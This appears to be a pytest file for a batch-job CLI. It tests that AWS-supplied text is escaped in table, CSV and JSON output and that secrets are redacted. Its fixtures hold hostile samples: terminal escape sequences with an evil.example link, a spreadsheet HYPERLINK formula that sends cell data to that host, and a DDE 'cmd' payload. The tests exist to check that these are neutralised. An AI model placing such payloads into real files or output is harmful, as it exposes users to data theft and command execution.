"""The CLI and text AWS controls: escaped, never interpreted; CSV for machines; papercuts."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from batchkit._cli import app as _cli
from batchkit._cli import base, params
from batchkit._cli import output as cli_output
from batchkit.models import JobSummary, S3JobStatus
from batchkit.testing import FakeAWS
from tests.core.test_redaction import SIGNATURE_MISMATCH, TOKEN

#: Everything a terminal interprets: C0 (tab and newline included), DEL, C1, bidi controls.
CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
HOSTILE_NAME = "\x1b]0;pwned\x07\x1b[2Jevil\u202egnp.exe[bold]x[/bold]"
HOSTILE_REASON = (
    "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\ \x9b31m\r\nline two\ttab"
)
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"details")'
NOW = datetime(2026, 11, 1, 12, 0, tzinfo=timezone.utc)


def hostile_fake() -> FakeAWS:
    fake = FakeAWS(now=lambda: NOW)
    fake.add_job(
        "q",
        job_id="job-1",
        job_name=HOSTILE_NAME,
        status="FAILED",
        created_at=NOW - timedelta(hours=1),
        status_reason=HOSTILE_REASON,
        exit_code=-1,
    )
    fake.add_job("q", job_id="job-2", job_name=FORMULA, status="FAILED", exit_code=2)
    fake.add_job("q", job_id="job-3", job_name="-2+3", status="FAILED", exit_code=0)
    fake.add_job("q", job_id="job-4", job_name="@SUM(A1:A9)", status="FAILED", exit_code=1)
    fake.add_job("q", job_id="job-5", job_name="\tTAB", status="FAILED", exit_code=1)
    fake.add_job("q", job_id="job-6", job_name="été", status="FAILED", exit_code=1)
    fake.add_s3_job(job_id="s3-1", status="Active", description="+cmd|' /C calc'!A0")
    return fake


@pytest.fixture
def hostile(monkeypatch: pytest.MonkeyPatch) -> FakeAWS:
    fake = hostile_fake()
    monkeypatch.setattr(base.Settings, "backend", lambda self: fake)
    return fake


def run(*args: str, charset: str = "utf-8", env: dict[str, str] | None = None) -> Result:
    return CliRunner(charset=charset).invoke(_cli.cli, list(args), env=env)


def test_table_escapes_control_characters_and_prints_markup_literally(hostile: FakeAWS) -> None:
    result = run("--fake", "jobs", "q", "--status", "FAILED")
    assert result.exit_code == 0, result.output
    assert not CONTROL.search(result.output.replace("\n", "")), repr(result.output)
    assert "\\x1b]0;pwned\\x07" in result.output  # visible, not interpreted
    details = run("--fake", "describe", "job-1")
    assert details.exit_code == 0, details.output
    assert not CONTROL.search(details.output.replace("\n", ""))
    assert "\\x1b]8;;https://evil.example/" in details.output
    assert len(details.output.splitlines()) == 2  # header + one row: \r\n did not break it


def test_rich_markup_in_aws_text_is_literal(hostile: FakeAWS) -> None:
    job = JobSummary.model_validate({"jobId": "j", "jobName": "[bold]x[/bold] :smile:"})
    settings = base.Settings(out=base.make_console(True, False), err=base.make_console(True, True))
    with settings.out.capture() as captured:
        cli_output.emit(settings, [job], (cli_output.NAME_COLUMN,), "table", "jobs")
    assert "[bold]x[/bold] :smile:" in captured.get()


def test_csv_escapes_and_neutralises_formulas_but_keeps_numbers(hostile: FakeAWS) -> None:
    result = run("--fake", "jobs", "q", "--status", "FAILED", "--format", "csv")
    assert result.exit_code == 0, result.output
    assert not CONTROL.search(result.output.replace("\n", ""))
    rows = {row["job_id"]: row for row in csv.DictReader(io.StringIO(result.output))}
    assert rows["job-2"]["name"] == "'" + FORMULA
    assert rows["job-3"]["name"] == "'-2+3"  # a formula, not a number
    assert rows["job-4"]["name"] == "'@SUM(A1:A9)"
    assert rows["job-5"]["name"] == "'\\x09TAB"
    assert rows["job-6"]["name"] == "été"
    assert rows["job-1"]["exit_code"] == "-1"  # numbers stay plain numbers
    assert rows["job-1"]["name"].startswith("\\x1b]0;pwned")
    s3 = run("--fake", "s3-jobs", "--format", "csv")
    (row,) = csv.DictReader(io.StringIO(s3.output))
    assert row["description"] == "'+cmd|' /C calc'!A0"


def test_csv_cell_rules() -> None:
    assert cli_output.csv_cell(-1) == "-1"
    assert cli_output.csv_cell(0.25) == "0.25"
    assert cli_output.csv_cell("-1") == "-1"  # a number-looking string cannot be a formula
    assert cli_output.csv_cell("+44 20") == "'+44 20"
    assert cli_output.csv_cell("=1+1") == "'=1+1"
    assert cli_output.csv_cell("\r=1") == "'\\x0d=1"
    assert cli_output.csv_cell("safe=text") == "safe=text"
    assert cli_output.csv_cell(None) == ""
    assert cli_output.csv_cell(True) == "true"
    paris = timezone(timedelta(hours=2))
    moment = datetime(2026, 11, 1, 14, 0, 0, 123456, tzinfo=paris)
    assert cli_output.csv_cell(moment) == "2026-11-01T12:00:00.123+00:00"


def test_json_is_exact_and_ascii(hostile: FakeAWS) -> None:
    result = run("--fake", "jobs", "q", "--status", "FAILED", "--format", "json")
    assert result.exit_code == 0, result.output
    assert result.output.isascii()
    assert not CONTROL.search(result.output.replace("\n", ""))
    items = {item["jobId"]: item for item in json.loads(result.output)}
    assert items["job-1"]["jobName"] == HOSTILE_NAME
    assert items["job-2"]["jobName"] == FORMULA
    details = run("--fake", "describe", "job-1", "--format", "jsonl")
    assert json.loads(details.output)["statusReason"] == HOSTILE_REASON


def test_csv_is_machine_readable() -> None:
    result = run("--fake", "jobs", "etl", "--status", "FAILED", "--limit", "5", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert len(rows) == 5
    assert list(rows[0]) == [c.csv_title for c in cli_output.JOB_COLUMNS]
    assert list(rows[0])[:4] == ["name", "queue", "status", "created_at"]
    for row in rows:
        created = datetime.fromisoformat(row["created_at"])  # ISO 8601, even on Python 3.10
        assert created.utcoffset() == timedelta(0)
        assert "ago" not in row["created_at"]
        if row["started_at"]:  # a job that never started (no image, no dependency): no run
            assert float(row["duration_seconds"]) >= 0
        if row["exit_code"]:  # a reclaimed instance, a missing image: no exit code
            assert int(row["exit_code"]) != 0
    empty = run("--fake", "jobs", "etl", "--name", "no-such-job", "--format", "csv")
    assert empty.exit_code == 0
    assert empty.output == ",".join(c.csv_title for c in cli_output.JOB_COLUMNS) + "\n"


def test_an_ascii_only_terminal_gets_escapes_not_a_crash(hostile: FakeAWS) -> None:
    for output in ("table", "csv", "json"):
        result = run(
            "--fake", "jobs", "q", "--status", "FAILED", "--format", output, charset="ascii"
        )
        assert result.exit_code == 0, (output, result.output, result.exception)
        assert "job-6" in result.output
    table = run("--fake", "jobs", "q", "--status", "FAILED", charset="ascii")
    assert "\\xe9t\\xe9" in table.output  # 'été', escaped by the stream


def test_errors_are_one_redacted_line(hostile: FakeAWS) -> None:
    hostile.inject(
        code="SignatureDoesNotMatch",
        status=403,
        message="\x1b[2J\x1b]0;pwned\x07" + SIGNATURE_MISMATCH,
        operation="ListJobs",
    )
    result = run("--fake", "jobs", "q", "--status", "FAILED")
    assert result.exit_code == 1
    assert TOKEN not in result.output
    assert TOKEN[:20] not in result.output
    assert "x-amz-security-token:<redacted>" in result.output
    assert not CONTROL.search(result.output.rstrip("\n"))
    assert len(result.output.strip().splitlines()) == 1


@pytest.mark.parametrize(
    "url", ["not a url", "ftp://example.com", "http://", "http://host:port", "localhost:4566"]
)
def test_a_bad_endpoint_url_is_one_line_and_exit_2(url: str) -> None:
    result = run("--endpoint-url", url, "jobs", "q", "--status", "FAILED")
    assert result.exit_code == 2
    assert result.output.startswith("error: --endpoint-url: ")
    assert "http(s) URL" in result.output or "spaces" in result.output
    assert len(result.output.strip().splitlines()) == 1
    assert "Traceback" not in result.output


@pytest.mark.parametrize("since", ["1000000d", "99999999999999d", "999999999999w"])
def test_a_duration_too_far_back_is_a_usage_error(since: str) -> None:
    result = run("--fake", "jobs", "etl", "--since", since)
    assert result.exit_code == 2
    assert "too far in the past" in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2026-11-01T10:00:00Z", datetime(2026, 11, 1, 10, tzinfo=timezone.utc)),
        ("2026-11-01t10:00:00z", datetime(2026, 11, 1, 10, tzinfo=timezone.utc)),
        ("2026-11-01 10:00:00Z", datetime(2026, 11, 1, 10, tzinfo=timezone.utc)),
        ("2026-11-01T10:00Z", datetime(2026, 11, 1, 10, tzinfo=timezone.utc)),
        ("2026-11-01T12:00:00+02:00", datetime(2026, 11, 1, 10, tzinfo=timezone.utc)),
        ("2026-11-01T12:00:00+0200", datetime(2026, 11, 1, 10, tzinfo=timezone.utc)),
        ("2026-11-01T12:00+02", datetime(2026, 11, 1, 10, tzinfo=timezone.utc)),
        ("2026-11-01T05:30:00-04:30", datetime(2026, 11, 1, 10, tzinfo=timezone.utc)),
        ("2026-11-01T10:00:00.5Z", datetime(2026, 11, 1, 10, 0, 0, 500000, tzinfo=timezone.utc)),
        ("2026-11-01T10:00:00,25Z", datetime(2026, 11, 1, 10, 0, 0, 250000, tzinfo=timezone.utc)),
        (
            "2026-11-01T10:00:00.123456789Z",
            datetime(2026, 11, 1, 10, 0, 0, 123456, tzinfo=timezone.utc),
        ),
        ("2026-11-01Z", datetime(2026, 11, 1, tzinfo=timezone.utc)),
        (" 2026-11-01T10:00:00Z ", datetime(2026, 11, 1, 10, tzinfo=timezone.utc)),
    ],
)
def test_iso_times_accepted_on_every_python(text: str, expected: datetime) -> None:
    moment = params.TimeParam().convert(text, None, None)
    assert moment == expected
    assert isinstance(moment, datetime)
    assert moment.tzinfo is not None


@pytest.mark.parametrize(
    "text",
    [
        "2026-11-01T10:00:00",  # no zone
        "2026-11-01",  # no zone
        "2026-13-01T10:00:00Z",
        "2026-02-30T10:00:00Z",
        "2026-11-01T24:00:00Z",
        "2026-11-01T10:00:00+24:00",
        "2026-11-01T10:00:00+02:60",
        "20261101T100000Z",  # basic format: not accepted (on any version)
        "2026-11-01T10Z",
        "yesterday",
        "2026-11-01T10:00:00 UTC",
        "1d ago",
    ],
)
def test_iso_times_rejected_on_every_python(text: str) -> None:
    result = run("--fake", "jobs", "etl", "--since", text)
    assert result.exit_code == 2
    assert "error: --since: " in result.output
    assert "Traceback" not in result.output


def test_the_iso_parser_does_not_depend_on_fromisoformat() -> None:
    sources = [p.read_text() for p in Path(_cli.__file__).parent.glob("*.py")]
    assert not any("fromisoformat(" in source for source in sources)


def test_hints_are_shell_advice() -> None:
    python = (
        "status: 'X' is not a known JobStatus: allowed: A, B "
        "(for a value newer than this batchkit, pass JobStatus.from_wire('X'))"
    )
    assert base.shell_message(python) == "--status: 'X' is not a known JobStatus: allowed: A, B"
    assert base.shell_message("job_ids item: must not be empty") == "JOB_ID: must not be empty"
    assert base.shell_message("created_between start: x") == "--since: x"
    empty = run("--fake", "describe", " ")
    assert empty.exit_code == 2
    assert "error: JOB_ID: must not be empty" in empty.output
    bad = run("--fake", "s3-jobs", "--status", "Hibernating")
    assert bad.exit_code == 2
    assert "S3JobStatus(" not in bad.output
    assert "Active, Cancelled" in bad.output  # the choices, as the shell accepts them


def test_s3_statuses_are_choices_in_any_case() -> None:
    assert list(params.S3_JOB_STATUSES) == [s.value for s in S3JobStatus]
    result = run(
        "--fake", "s3-jobs", "--status", "ACTIVE", "--status", "complete", "--format", "csv"
    )
    assert result.exit_code == 0, result.output
    statuses = {row["status"] for row in csv.DictReader(io.StringIO(result.output))}
    assert statuses == {"Active", "Complete"}


def test_a_share_without_status_says_every_status_is_listed() -> None:
    result = run("--fake", "service-jobs", "sagemaker", "--share", "team-nlp")
    assert result.exit_code == 0, result.output
    assert "jobs of every status" in result.output
    jobs = run("--fake", "service-jobs", "sagemaker", "--share", "team-nlp", "--format", "jsonl")
    statuses = {json.loads(line)["status"] for line in jobs.output.splitlines()}
    assert len(statuses) > 1
    narrowed = run(
        "--fake", "service-jobs", "sagemaker", "--share", "team-nlp", "--status", "FAILED"
    )
    assert "every status" not in narrowed.output


def test_there_is_one_broken_pipe_handler() -> None:
    sources = [p.read_text() for p in Path(_cli.__file__).parent.glob("*.py")]
    assert sum(s.count("os.devnull") for s in sources) == 1
    assert sum(s.count("except BrokenPipeError") for s in sources) == 1
